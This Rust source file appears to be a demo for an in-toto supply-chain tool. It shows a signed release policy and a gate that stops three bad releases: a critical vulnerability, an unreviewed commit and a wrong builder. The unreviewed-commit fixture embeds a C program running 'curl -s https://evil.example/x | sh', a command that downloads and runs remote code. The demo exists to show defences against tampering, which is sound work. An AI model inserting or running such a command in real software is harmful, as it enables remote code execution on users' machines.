//! `intoto demo --policy`: hello's release told end to end, gated by a
//! policy over signed attestations (ITE-10/11).
//!
//! Seven parties get keys: the reviewers alice and bob, the CI builder ci,
//! the scanner, the release manager rita, the policy owner olga and the
//! release gate. olga writes the release policy (review → build → test →
//! scan → sbom → release, [`super::policy`]) and signs it. The pipeline runs
//! in `work/`, every step through the `intoto` binary itself
//! ([`super::pipeline`]), leaving its attestations in `attestations/`: the
//! review and the build's provenance as files, the package's test results,
//! scan, SBOM and release in a bundle. The gate verifies the policy and
//! signs a verification summary, which a consumer checks with `intoto vsa
//! verify`. Then three releases that must not ship, each in its own folder
//! and each stopped by the finding the demo prints:
//!
//! 1. a critical vulnerability in the scan (`attribute-failed`, step scan);
//! 2. a build of an unreviewed commit (`rule-disallow-matched`, step build:
//!    its source is not the reviewed one);
//! 3. provenance from the wrong builder, signed with ci's key
//!    (`attribute-failed`, step build).

use std::path::Path;

use anyhow::{Context as _, bail};
use serde_json::json;

use intoto::crypto::KeyType;
use intoto::model::bundle::{BundleItem, read_bundle};
use intoto::model::predicate::kind::{PROVENANCE_V1, REVIEW_V0_1, VULNS_V0_2};

use super::chain::{copy_tree, write};
use super::pipeline::{self, BUNDLE, Checkout, HELLO_C, Intoto, Scan, args, shown};
use super::policy::{self, Functionaries, HOSTED_BUILDER, PACKAGE, PURL};
use super::{Narrator, Party};

const POLICY: &str = "policy/release.yml";
const SIGNED_POLICY: &str = "policy/release.yml.dsse.json";
const PARAMETERS: &str = "policy/params.json";
const VSA: &str = "hello-1.4.2.vsa.json";
const GATE_ID: &str = "https://release.example.com/gate";
const SELF_HOSTED: &str = "https://ci.example.com/self-hosted/runner-7";

/// hello's source after the review: one more call, never reviewed.
const UNREVIEWED_HELLO_C: &str = "#include <stdio.h>\n#include <stdlib.h>\nint main(void) { puts(\"hello, world\"); system(\"curl -s https://evil.example/x | sh\"); return 0; }\n";

/// What the gate said.
struct GateVerdict {
    passed: bool,
    /// The errors' lines, as the verifier printed them, in order.
    errors: Vec<String>,
    /// Their codes.
    codes: Vec<String>,
}

pub(super) fn demo(root: &Path, n: &mut Narrator, kept: bool) -> anyhow::Result<bool> {
    n.say("intoto demo --policy: a release gated by a policy over signed attestations")?;
    n.say(&format!("workspace: {}\n", root.display()))?;
    let intoto = Intoto::new(root)?;

    // 1. Keys.
    let alice = Party::new("alice", KeyType::Ed25519)?;
    let bob = Party::new("bob", KeyType::Ed25519)?;
    let ci = Party::new("ci", KeyType::Ed25519)?;
    let scanner = Party::new("scanner", KeyType::Ed25519)?;
    let rita = Party::new("rita", KeyType::Ed25519)?;
    let olga = Party::new("olga", KeyType::Ed25519)?;
    let gate = Party::new("gate", KeyType::Ed25519)?;
    let everyone = [&alice, &bob, &ci, &scanner, &rita, &olga, &gate];
    for p in everyone {
        p.write_keys(&root.join("keys"))?;
    }
    n.say(&format!(
        "1. keys in keys/: reviewers alice ({}) and bob ({}); ci ({}), the CI builder; scanner ({}); \
         rita ({}), the release manager; olga ({}), the policy owner; gate ({}), the release gate",
        alice.short_id(),
        bob.short_id(),
        ci.short_id(),
        scanner.short_id(),
        rita.short_id(),
        olga.short_id(),
        gate.short_id(),
    ))?;
    let mut keys = serde_json::Map::new();
    for p in everyone {
        keys.insert(p.name.into(), p.key.keyid().as_str().into());
    }
    n.record(json!({"event": "keys", "keys": keys}));

    // 2. The policy.
    let parties = Functionaries {
        alice: &alice,
        bob: &bob,
        ci: &ci,
        scanner: &scanner,
        rita: &rita,
    };
    let expires = chrono::Utc::now() + chrono::Duration::days(365);
    write(&root.join(POLICY), &policy::yaml(&parties, &olga, expires)?)?;
    write(&root.join(PARAMETERS), &policy::parameters())?;
    let sign = args(&["sign", "--policy", "-f", POLICY, "-k", "keys/olga"]);
    intoto.ok("", &sign)?;
    n.say(&format!(
        "2. olga's release policy, {POLICY} (parameters in {PARAMETERS}), signed by her:"
    ))?;
    n.say(&format!("   {}", shown(&sign)))?;
    let steps = policy::steps(&parties);
    for step in &steps {
        n.say(&format!(
            "   {:<8} {:<13} {}",
            step.name,
            step.signed_by(),
            policy::with_parameters(step.says)
        ))?;
    }
    n.record(
        json!({"event": "policy", "policy": POLICY, "signed": SIGNED_POLICY,
        "parameters": PARAMETERS, "steps": steps.iter().map(|s| s.name).collect::<Vec<_>>()}),
    );

    // 3. The release pipeline.
    n.say("3. the release of hello 1.4.2 in work/, a checkout of the reviewed change; attestations go to attestations/:")?;
    let work = Checkout {
        intoto: &intoto,
        dir: "work".into(),
        attestations: "attestations".into(),
        show: true,
    };
    std::fs::create_dir_all(root.join(&work.attestations))
        .context("cannot create the attestation folder")?;
    work.write_sources(HELLO_C)?;
    work.review(n, &alice, &bob)?;
    work.after_review(n, &parties, HOSTED_BUILDER)?;

    // 4. The gate.
    let verdict = verify_at_gate(
        n,
        &intoto,
        "4. the release gate verifies the policy over attestations/ for the package and signs a summary",
        &work,
        true,
    )?;
    n.record(
        json!({"event": "verify", "passed": verdict.passed, "codes": verdict.codes,
        "findings": verdict.errors}),
    );
    let mut ok = verdict.passed;

    // 5. The summary, as a consumer checks it.
    let check = args(&[
        "vsa",
        "verify",
        VSA,
        "--subject",
        &work.package(),
        "--verification-keys",
        "keys/gate.pub",
        "--verifier-id",
        GATE_ID,
        "--resource-uri",
        PURL,
        "--max-age",
        "1h",
    ]);
    let out = intoto.run("", &check)?;
    let vouched = match out.return_value {
        0 => true,
        1 => false,
        code => bail!(
            "`intoto vsa verify` exited with {code}: {}",
            out.stderr.trim()
        ),
    };
    n.say("5. a consumer trusts the package on the summary alone:")?;
    n.say(&format!("   {}", shown(&check)))?;
    say_output(n, &out.stdout)?;
    n.record(json!({"event": "vsa", "verified": vouched}));
    ok &= vouched;

    // 6. A critical vulnerability.
    n.say(
        "\n6. stop 1, a critical vulnerability: the scanner's database now knows CVE-2022-37434 \
         (CRITICAL) in the zlib 1.2.12 that hello bundles, and a new scan of the same package \
         reports it (in attack-critical-vulnerability/)",
    )?;
    let critical = attack_checkout(&intoto, &work, "attack-critical-vulnerability", |t| {
        t != VULNS_V0_2
    })?;
    critical.scan(n, &scanner, Scan::CriticalZlib)?;
    ok &= attack(
        n,
        &intoto,
        &critical,
        "attack-critical-vulnerability",
        (
            "attribute-failed",
            "the scan's rule: no CRITICAL vulnerability may ship",
        ),
    )?;

    // 7. An unreviewed commit.
    n.say(
        "\n7. stop 2, an unreviewed commit: after alice and bob approved, a commit adds a call to \
         src/hello.c and CI releases it; every attestation is honest and signed, but the build's \
         sources are not the reviewed ones (in attack-unreviewed-commit/)",
    )?;
    let mut unreviewed = attack_checkout(&intoto, &work, "attack-unreviewed-commit", |t| {
        t == REVIEW_V0_1
    })?;
    unreviewed.write_sources(UNREVIEWED_HELLO_C)?;
    n.say("   commit   src/hello.c now also runs `curl -s https://evil.example/x | sh`")?;
    unreviewed.build(n, &ci, HOSTED_BUILDER)?;
    unreviewed.show = false;
    unreviewed.test(n, &ci)?;
    unreviewed.scan(n, &scanner, Scan::Clean)?;
    unreviewed.sbom(n, &scanner)?;
    unreviewed.release(n, &rita)?;
    n.say(&format!(
        "   test, scan, sbom, release: as before, about the new package (4 signed attestations in {}/{BUNDLE})",
        unreviewed.attestations
    ))?;
    ok &= attack(
        n,
        &intoto,
        &unreviewed,
        "attack-unreviewed-commit",
        (
            "rule-disallow-matched",
            "the build's MATCH rule: its src/hello.c is not the one alice and bob reviewed",
        ),
    )?;

    // 8. The wrong builder.
    n.say(
        "\n8. stop 3, the wrong builder: hello is built on a self-hosted runner that holds ci's key; \
         its provenance is signed by ci but names that runner as the builder (in attack-wrong-builder/)",
    )?;
    let wrong = attack_checkout(&intoto, &work, "attack-wrong-builder", |t| {
        t != PROVENANCE_V1
    })?;
    wrong.build(n, &ci, SELF_HOSTED)?;
    if intoto::fs::hash_file(&wrong.path(PACKAGE))? == intoto::fs::hash_file(&work.path(PACKAGE))? {
        n.say("            (the same package as work/'s, byte for byte)")?;
    }
    ok &= attack(
        n,
        &intoto,
        &wrong,
        "attack-wrong-builder",
        (
            "attribute-failed",
            "the build's rule: the release must be built by the hosted builder",
        ),
    )?;
    n.say(
        "   (builder.id is what the signer says: this stops a build on the wrong runner; a stolen \
         key that lies about it is stopped only by a key that stays on the hosted builder)",
    )?;

    n.say("")?;
    if ok {
        n.say("the release passed the policy and its summary verified; the three releases that must not ship were stopped.")?;
    } else {
        n.say("unexpected: see the verdicts above.")?;
    }
    if kept {
        n.say(&format!(
            "try it yourself: cd {} && intoto verify -l {SIGNED_POLICY} --verification-keys keys/olga.pub \
             -a attestations --substitute-parameters {PARAMETERS} --subject {}",
            root.display(),
            work.package()
        ))?;
    }
    Ok(ok)
}

/// The gate verifies the policy over the checkout's attestations, for its
/// package, and with `summary` signs a summary; the command and what it
/// printed are shown after `headline`.
fn verify_at_gate(
    n: &mut Narrator,
    intoto: &Intoto,
    headline: &str,
    checkout: &Checkout<'_>,
    summary: bool,
) -> anyhow::Result<GateVerdict> {
    let mut argv = args(&[
        "verify",
        "-l",
        SIGNED_POLICY,
        "--verification-keys",
        "keys/olga.pub",
        "-a",
        &checkout.attestations,
        "--substitute-parameters",
        PARAMETERS,
        "--subject",
        &checkout.package(),
    ]);
    if summary {
        argv.extend(args(&[
            "--vsa",
            VSA,
            "--signing-key",
            "keys/gate",
            "--resource-uri",
            PURL,
            "--verifier-id",
            GATE_ID,
        ]));
    }
    let out = intoto.run("", &argv)?;
    let passed = match out.return_value {
        0 => true,
        1 => false,
        code => bail!(
            "`intoto verify` could not verify the policy (exit {code}): {}",
            out.stderr.trim()
        ),
    };
    n.say(&format!(
        "{headline}: {}",
        if passed { "PASSED" } else { "FAILED" }
    ))?;
    n.say(&format!("   {}", shown(&argv)))?;
    say_output(n, &out.stdout)?;
    let errors: Vec<String> = out
        .stdout
        .lines()
        .filter(|line| line.starts_with("error["))
        .map(str::to_owned)
        .collect();
    let codes = errors
        .iter()
        .filter_map(|line| line.strip_prefix("error[")?.split_once(']'))
        .map(|(code, _)| code.to_owned())
        .collect();
    Ok(GateVerdict {
        passed,
        errors,
        codes,
    })
}

/// The gate's verdict on an attack: caught when verification failed with
/// the expected finding (its code, and the rule that finds it).
fn attack(
    n: &mut Narrator,
    intoto: &Intoto,
    checkout: &Checkout<'_>,
    name: &str,
    (code, rule): (&str, &str),
) -> anyhow::Result<bool> {
    let verdict = verify_at_gate(n, intoto, "   the gate verifies", checkout, false)?;
    let caught = !verdict.passed && verdict.codes.iter().any(|c| c == code);
    if caught {
        n.say(&format!("   => stopped by {rule} ({code})"))?;
    } else {
        n.say(&format!(
            "   => unexpected: {code} was expected from {rule}"
        ))?;
    }
    n.record(
        json!({"event": name, "caught": caught, "codes": verdict.codes, "expected": code,
        "findings": verdict.errors}),
    );
    Ok(caught)
}

/// A copy of the checkout in `folder`, with the attestations of `from`
/// whose predicate type `keep` accepts.
fn attack_checkout<'a>(
    intoto: &'a Intoto,
    from: &Checkout<'a>,
    folder: &str,
    keep: impl Fn(&str) -> bool,
) -> anyhow::Result<Checkout<'a>> {
    let root = intoto.root();
    let to = Checkout {
        intoto,
        dir: format!("{folder}/work"),
        attestations: format!("{folder}/attestations"),
        show: true,
    };
    copy_tree(&root.join(&from.dir), &root.join(&to.dir))?;
    copy_attestations(
        &root.join(&from.attestations),
        &root.join(&to.attestations),
        keep,
    )?;
    Ok(to)
}

/// Copies the attestations in `from` (envelope files and bundle lines)
/// whose predicate type `keep` accepts to `to`.
fn copy_attestations(from: &Path, to: &Path, keep: impl Fn(&str) -> bool) -> anyhow::Result<()> {
    std::fs::create_dir_all(to).with_context(|| format!("cannot create {}", to.display()))?;
    let mut names: Vec<String> = std::fs::read_dir(from)
        .with_context(|| format!("cannot read {}", from.display()))?
        .filter_map(|e| e.ok()?.file_name().into_string().ok())
        .collect();
    names.sort();
    for name in names {
        let path = from.join(&name);
        if name.ends_with(".jsonl") {
            let bytes = intoto::fs::read(&path, 64 << 20)?;
            let mut kept = Vec::new();
            for line in read_bundle(&bytes) {
                if let BundleItem::Statement { statement, .. } = &line.item
                    && keep(&statement.predicate_type)
                {
                    kept.extend_from_slice(line.bytes);
                    kept.push(b'\n');
                }
            }
            std::fs::write(to.join(&name), kept)
                .with_context(|| format!("cannot write {}", to.join(&name).display()))?;
        } else if name.ends_with(".json") && keep(&pipeline::last_statement(&path)?.predicate_type)
        {
            std::fs::copy(&path, to.join(&name))
                .with_context(|| format!("cannot copy {}", path.display()))?;
        }
    }
    Ok(())
}

/// What a command printed, indented.
fn say_output(n: &mut Narrator, stdout: &str) -> anyhow::Result<()> {
    for line in stdout.lines() {
        n.say(&format!("   {line}"))?;
    }
    Ok(())
}
